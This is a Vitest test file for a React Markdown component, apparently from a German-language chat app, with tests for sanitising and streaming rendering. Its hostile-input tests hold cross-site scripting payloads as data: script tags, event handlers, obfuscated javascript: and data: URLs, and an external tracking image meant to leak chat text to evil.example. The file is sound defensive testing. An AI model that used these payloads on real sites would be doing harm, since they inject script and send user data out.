import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown, safeUrl } from './Markdown.tsx';

// Vitest runs in Node without a DOM: render to HTML and inspect what the browser would receive.
const render = (text: string) => renderToStaticMarkup(createElement(Markdown, null, text));

/** The rendered HTML without emotion's <style> tags, which only carry the CSS. */
const html = (text: string) => render(text).replace(/<style[^>]*>[\s\S]*?<\/style>/g, '');

const hrefs = (markup: string) => [...markup.matchAll(/href="([^"]*)"/g)].map((m) => m[1]);

describe('Markdown: hostile input', () => {
  it('drops raw HTML script tags', () => {
    const out = html('Hallo <script>alert(1)</script> Welt');
    expect(out).not.toMatch(/<script/i);
    expect(out).toContain('Hallo');
  });

  it('drops raw HTML block elements and their handlers', () => {
    const out = html('<img src=x onerror="alert(1)">\n\n<div onclick="alert(2)">x</div>\n\n<iframe src="https://evil.example"></iframe>');
    expect(out).not.toMatch(/<img/i);
    expect(out).not.toMatch(/onerror/i);
    expect(out).not.toMatch(/onclick/i);
    expect(out).not.toMatch(/<iframe/i);
  });

  it('removes javascript: links but keeps their text', () => {
    const out = html('[klick mich](javascript:alert(1))');
    expect(out).toContain('klick mich');
    expect(out).not.toMatch(/javascript:/i);
    expect(hrefs(out)).toEqual([]);
  });

  it('removes obfuscated script links (entities, case, control characters)', () => {
    const out = html(
      ['[a](JaVaScRiPt:alert(1))', '[b](&#106;avascript:alert(1))', '[c](<java\tscript:alert(1)>)', '[d](vbscript:msgbox)'].join('\n\n'),
    );
    expect(out).not.toMatch(/script:/i);
    expect(hrefs(out)).toEqual([]);
  });

  it('removes data: links', () => {
    const out = html('[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)');
    expect(out).not.toMatch(/data:/i);
    expect(hrefs(out)).toEqual([]);
  });

  it('never renders an image: external images become a link "Bild: alt"', () => {
    const out = html('![Tracking](https://evil.example/p.png?chat=geheim)');
    expect(out).not.toMatch(/<img/i);
    expect(out).toContain('Bild: Tracking');
    expect(hrefs(out)).toEqual(['https://evil.example/p.png?chat=geheim']);
    expect(out).toContain('rel="noopener noreferrer nofollow"');
  });

  it('an image with a javascript: or data: source is plain text', () => {
    const out = html('![t](javascript:alert(1)) ![u](data:image/png;base64,AAAA)');
    expect(out).not.toMatch(/<img/i);
    expect(out).not.toMatch(/javascript:|data:/i);
    expect(out).toContain('Bild: t');
    expect(out).toContain('Bild: u');
  });
});

describe('Markdown: normal text', () => {
  it('renders emphasis, lists, quotes and code', () => {
    const out = html('**fett** und _kursiv_\n\n- eins\n- zwei\n\n> Zitat\n\n```\ncode()\n```');
    expect(out).toContain('<strong>fett</strong>');
    expect(out).toContain('<em>kursiv</em>');
    expect(out.match(/<li>/g)).toHaveLength(2);
    expect(out).toContain('<blockquote>');
    expect(out).toMatch(/<pre><code>code\(\)\n<\/code><\/pre>/);
  });

  it('renders https, mailto and relative links in a new tab without opener', () => {
    const out = html('[Seite](https://mika.example/hilfe) [Mail](mailto:hallo@mika.example) [Intern](/agb)');
    expect(hrefs(out)).toEqual(['https://mika.example/hilfe', 'mailto:hallo@mika.example', '/agb']);
    expect(out.match(/target="_blank"/g)).toHaveLength(3);
    expect(out.match(/rel="noopener noreferrer nofollow"/g)).toHaveLength(3);
  });

  it('renders pipe tables with alignment and formatting in cells', () => {
    const out = html('Vergleich:\n\n| Tarif | Preis |\n|:---|---:|\n| **Solo** | 10 € |\n| Team | `20 €` |\n\nEnde');
    expect(out).toContain('<table>');
    expect(out.match(/<th[ >]/g)).toHaveLength(2);
    expect(out).toContain('<td style="text-align:left"><strong>Solo</strong></td>');
    expect(out).toContain('<td style="text-align:right"><code>20 €</code></td>');
    expect(out).toContain('<p>Vergleich:</p>');
    expect(out).toContain('<p>Ende</p>');
  });

  it('leaves text with pipes that is no table alone', () => {
    const out = html('a | b\nc | d');
    expect(out).not.toContain('<table>');
    expect(out).toContain('a | b');
  });

  it('keeps the URL check inside table cells', () => {
    const out = html('| a | b |\n|---|---|\n| [x](javascript:alert(1)) | ![t](https://evil.example/p.png) |');
    expect(out).toContain('<table>');
    expect(out).not.toMatch(/javascript:|<img/i);
  });

  it('renders incomplete text while it streams', () => {
    expect(() => html('**halb fe')).not.toThrow();
    expect(html('**halb fe')).toContain('halb fe');
  });
});

describe('safeUrl', () => {
  it.each([
    ['https://a.example/x', 'https://a.example/x'],
    ['http://a.example', 'http://a.example'],
    ['mailto:a@b.de', 'mailto:a@b.de'],
    ['/relativ/pfad', '/relativ/pfad'],
    ['#anker', '#anker'],
    ['seite?x=a:b', 'seite?x=a:b'],
    ['javascript:alert(1)', null],
    [' javascript:alert(1)', null],
    ['java\nscript:alert(1)', null],
    ['data:text/html,x', null],
    ['file:///etc/passwd', null],
    ['', null],
  ])('%j → %j', (input, expected) => {
    expect(safeUrl(input)).toBe(expected);
  });
});

describe('Markdown while it streams', () => {
  const streamed = (text: string) => renderToStaticMarkup(createElement(Markdown, { streaming: true, children: text })).replace(/<style[^>]*>[\s\S]*?<\/style>/g, '');

  it.each([
    ['Das ist _kurs', '<em>kurs</em>'],
    ['Das ist **fe', '<strong>fe</strong>'],
    ['Nimm `npm i', '<code>npm i</code>'],
    ['**fett und _kursiv', '<strong>fett und <em>kursiv</em></strong>'],
  ])('%j shows its formatting before the closing marker arrives', (text, expected) => {
    expect(streamed(text)).toContain(expected);
  });

  it('closes an open code block', () => {
    expect(streamed('Beispiel:\n\n```\nconst a = 1')).toMatch(/<pre><code>const a = 1\n<\/code><\/pre>/);
  });

  it('leaves list bullets, snake_case and complete text alone', () => {
    expect(streamed('* eins\n* zwei')).not.toMatch(/<em>/);
    expect(streamed('die Variable snake_case')).toContain('snake_case');
    expect(streamed('die Variable snake_case')).not.toMatch(/<em>/);
    expect(streamed('fertig _kursiv_ und **fett**')).toContain('<em>kursiv</em> und <strong>fett</strong>');
  });

  it('does not close markers in the stored text', () => {
    expect(html('Das ist _kurs')).toContain('_kurs');
  });

  it('decodes character references in text without creating markup', () => {
    const out = html('a &amp; b &lt;script&gt;');
    expect(out).toContain('a &amp; b &lt;script&gt;');
    expect(out).not.toMatch(/<script/);
  });
});

describe('Markdown: the parser', () => {
  it('nests lists, keeps the start of ordered lists and wraps loose items in paragraphs', () => {
    expect(html('- eins\n  - eins a\n- zwei')).toMatch(/<ul><li>eins<ul><li>eins a<\/li><\/ul><\/li><li>zwei<\/li><\/ul>/);
    expect(html('3. drei\n4. vier')).toContain('<ol start="3"><li>drei</li><li>vier</li></ol>');
    expect(html('- eins\n\n- zwei')).toContain('<ul><li><p>eins</p></li><li><p>zwei</p></li></ul>');
  });

  it('renders headings, rules, quotes with lists, hard breaks and escapes', () => {
    expect(html('## Titel ##')).toContain('<h2>Titel</h2>');
    expect(html('a\n\n---\n\nb')).toContain('<hr/>');
    expect(html('> - eins\n> - zwei')).toContain('<blockquote><ul><li>eins</li><li>zwei</li></ul></blockquote>');
    expect(html('Zeile  \nneu')).toContain('Zeile<br/>neu');
    expect(html('\\*kein\\* Stern')).toContain('*kein* Stern');
    expect(html('`` a`b ``')).toContain('<code>a`b</code>');
    expect(html('~~alt~~ neu')).toContain('<del>alt</del> neu');
  });

  it('links bare and angle-bracket URLs, but only safe ones', () => {
    expect(hrefs(html('Siehe https://mika.example/hilfe.'))).toEqual(['https://mika.example/hilfe']);
    expect(hrefs(html('<https://mika.example>'))).toEqual(['https://mika.example']);
    expect(hrefs(html('<javascript:alert(1)>'))).toEqual([]);
  });

  it('drops inline HTML but keeps the text around and between the tags', () => {
    const out = html('vor <span style="color:red" onmouseover="x()">mitte</span> nach <!-- kommentar -->');
    expect(out).toContain('vor mitte nach');
    expect(out).not.toMatch(/<span|onmouseover|kommentar/);
  });

  it('leaves unmatched markers as text', () => {
    expect(html('2 * 3 = 6 und a_b_c')).toContain('2 * 3 = 6 und a_b_c');
    expect(html('**offen')).toContain('**offen');
  });
});
